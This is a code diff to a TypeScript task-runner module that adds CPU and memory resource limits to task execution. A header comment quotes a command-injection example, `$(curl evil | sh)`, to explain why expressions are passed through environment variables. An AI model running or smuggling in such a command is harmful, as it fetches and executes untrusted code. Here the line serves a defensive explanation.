@@ -3,7 +3,7 @@
 // environment variable (`${EVENTOPS_EXPR_1}`) holding the expression's value, so a PR title such
 // as `$(curl evil | sh)` reaches the shell as text. Env values are rendered to strings; secret
 // references are resolved (only the secrets the task's source may use) and listed for masking.
-import { ExpressionError, parseDuration, parseTemplate, renderTemplate, evaluate, stringify, type Task } from '../../schemas/index.js';
+import { ExpressionError, parseCpu, parseDuration, parseMemory, parseTemplate, renderTemplate, evaluate, stringify, type Task } from '../../schemas/index.js';
 import type { TaskExecution } from '../../runners/index.js';
 
 export interface ExecutionInput {
@@ -56,6 +56,8 @@ export function taskExecution(input: ExecutionInput): TaskExecution {
   });
   const taskTimeout = task.timeout ? parseDuration(task.timeout) : undefined;
   const limits = [taskTimeout, input.runTimeLeftMs].filter((v): v is number => v !== undefined);
+  const cpu = task.resources?.cpu === undefined ? undefined : parseCpu(task.resources.cpu);
+  const memoryBytes = task.resources?.memory === undefined ? undefined : parseMemory(task.resources.memory);
   const shell = task.shell ?? input.defaults?.shell;
   const workdir = task.workdir ?? input.defaults?.workdir;
   return {
@@ -69,6 +71,7 @@ export function taskExecution(input: ExecutionInput): TaskExecution {
     ...(shell ? { shell } : {}),
     ...(workdir ? { workdir } : {}),
     ...(task.image ? { image: stringify(renderIn('image', task.image, context)) } : {}),
+    ...(cpu !== undefined || memoryBytes !== undefined ? { resources: { ...(cpu !== undefined ? { cpu } : {}), ...(memoryBytes !== undefined ? { memoryBytes } : {}) } } : {}),
     ...(limits.length > 0 ? { timeoutMs: Math.max(1, Math.min(...limits)) } : {}),
   };
 }
